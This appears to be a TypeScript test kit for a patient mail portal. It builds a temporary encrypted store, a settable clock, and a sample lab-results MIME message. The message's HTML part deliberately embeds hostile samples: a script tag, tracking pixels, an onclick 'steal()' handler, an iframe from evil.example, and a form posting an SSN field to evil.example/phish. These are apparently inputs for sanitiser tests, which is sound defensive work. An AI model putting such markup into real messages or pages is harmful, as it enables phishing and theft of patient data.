// Portal test kit: a store in a temporary data directory with a fresh master key, a settable clock, and a MIME
// message with a marker, an HTML part carrying a script and a remote image, and a binary attachment.
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openStore, type Store } from '../../src/store.js';
import { keyringOf, masterKeyFrom } from '../../src/seal.js';

export function tempStore(): { store: Store; dataDir: string } {
  const dataDir = mkdtempSync(join(tmpdir(), 'phigate-portal-'));
  const ring = keyringOf(masterKeyFrom(randomBytes(32)));
  return { store: openStore(dataDir, { keyring: () => ring }), dataDir };
}

export function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => { const p = join(dir, n); return statSync(p).isDirectory() ? filesUnder(p) : [p]; });
}

export function dirContains(dir: string, needle: string): string[] {
  return filesUnder(dir).filter((f) => readFileSync(f).includes(needle));
}

export const clock = (start = Date.UTC(2026, 0, 15, 9, 0, 0)) => {
  let t = start;
  return { now: () => t, set: (v: number) => { t = v; }, advance: (ms: number) => { t += ms; } };
};

/** An attachment whose bytes cover every byte value, so any re-encoding shows. */
export const ATTACHMENT = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.from(Array.from({ length: 256 }, (_, i) => i)), randomBytes(3000)]);

export function sampleMessage(marker: string, opts: { html?: boolean } = {}): Buffer {
  const b = `b-${randomBytes(6).toString('hex')}`;
  const alt = `a-${randomBytes(6).toString('hex')}`;
  const att = ATTACHMENT.toString('base64').replace(/.{76}/g, '$&\r\n');
  const html = [
    '<html><head><style>body{background:url(http://tracker.example/bg.png)}</style></head><body>',
    `<p>Dear patient, <b>${marker}</b> HTML part.</p>`,
    '<script>alert("pwned-script")</script>',
    '<img src="http://tracker.example/pixel.gif" alt="tracker">',
    '<img src="https://tracker.example/pixel2.gif">',
    '<p style="background-image:url(http://tracker.example/style.png)">styled</p>',
    '<a href="https://clinic.example/info" onclick="steal()">clinic info</a>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<form action="https://evil.example/phish"><input name="ssn"></form>',
    '</body></html>',
  ].join('\r\n');
  const lines = [
    'From: Dr Smith <dr.smith@clinic.example>',
    'To: Pat Patient <pat@example.org>',
    'Subject: Your lab results',
    'Date: Thu, 15 Jan 2026 08:30:00 +0000',
    'Message-ID: <orig-123@clinic.example>',
    'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${b}"`,
    '',
    `--${b}`,
  ];
  if (opts.html !== false) {
    lines.push(`Content-Type: multipart/alternative; boundary="${alt}"`, '', `--${alt}`,
      'Content-Type: text/plain; charset=utf-8', '', `Dear patient, ${marker} text part.`, 'Your results are attached.', '',
      `--${alt}`, 'Content-Type: text/html; charset=utf-8', '', html, '', `--${alt}--`);
  } else {
    lines.push('Content-Type: text/plain; charset=utf-8', '', `Dear patient, ${marker} text part.`, 'Your results are attached.');
  }
  lines.push('', `--${b}`, 'Content-Type: application/pdf; name="results.pdf"', 'Content-Disposition: attachment; filename="results.pdf"',
    'Content-Transfer-Encoding: base64', '', att, `--${b}--`, '');
  return Buffer.from(lines.join('\r\n'));
}
